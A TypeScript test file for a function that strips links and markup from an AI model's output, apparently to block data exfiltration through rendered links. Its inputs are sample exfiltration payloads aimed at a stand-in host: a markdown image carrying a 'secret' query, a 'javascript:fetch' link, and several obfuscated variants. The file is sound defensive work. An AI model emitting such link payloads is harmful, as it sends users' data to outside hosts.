import { assert, describe, it } from "@effect/vitest"
import { FastCheck } from "effect"
import { withoutLinks } from "../../../src/architect/ai/links.ts"

const host = "evil.example"

describe("the words of a model", () => {
  it.each([
    `![price](https://${host}/?q=secret)`,
    `[here](https://${host}/x "title")`,
    `[![a](https://${host}/a)](https://${host}/b)`,
    `[text][1]\n\n[1]: https://${host}/x`,
    `<https://${host}/x>`,
    `see https://${host}/x and www.${host}/y and //${host}/z`,
    `<img src="https://${host}/x">`,
    `<img src='//${host}/x'`,
    `<a href=javascript:fetch("//${host}")>x</a>`,
    `htt<b>ps://${host}</b>/x`,
    `[a](<https://${host}/x>)`,
    `![a](data:text/html;base64,AAAA)`,
    `ｈｔｔｐｓ://${host}/x`,
    `&#104;ttps://${host}/x and htt&#x70;s://${host}`,
    `[a]&#40;https://${host}/x&rpar;`,
    `h\u200Bttps://${host}/x`,
    `[a]\u2060(https://${host}/x)`,
    `ww\u200Bw.${host}/x and mail\u00ADto:a@${host}`
  ])("lose links, images and markup: %s", (text) => {
    const plain = withoutLinks(text)
    assert.notMatch(plain, /https?:|\]\(|<[a-z]|javascript|data:/i)
    for (const address of [`//${host}`, `www.${host}`, "mailto:"]) assert.notInclude(plain, address)
  })

  it("hide no digit behind a character's number", () => {
    assert.strictEqual(withoutLinks("It costs 1&#50;3 &euro;."), "It costs 13 .")
  })

  it("keep what they say", () => {
    const text =
      "**growth** costs less (see `web`):\n\n- 2 zones, if < 5 and a < b\n  - `SELECT a[0]`\n\n| a | b |\n| --- | --- |"
    assert.strictEqual(withoutLinks(text), text)
    assert.strictEqual(withoutLinks(`The [docs](https://${host}) say so.`), "The docs say so.")
  })

  it("come to rest, whatever they are, in bounded time", () => {
    FastCheck.assert(
      FastCheck.property(
        FastCheck.array(
          FastCheck.constantFrom("[", "]", "(", ")", "!", "<", ">", "http://", "www.", "a", ":", "\n", "/"),
          {
            maxLength: 300
          }
        ),
        (parts) => {
          const plain = withoutLinks(parts.join(""))
          assert.notMatch(plain, /http:\/\/|!\[|\]\(/)
          assert.strictEqual(withoutLinks(plain), plain)
        }
      )
    )
    assert.isBelow(withoutLinks("![".repeat(100_000)).length, 10_000)
    assert.isBelow(withoutLinks("[a](".repeat(50_000)).length, 10_000)
  })
})
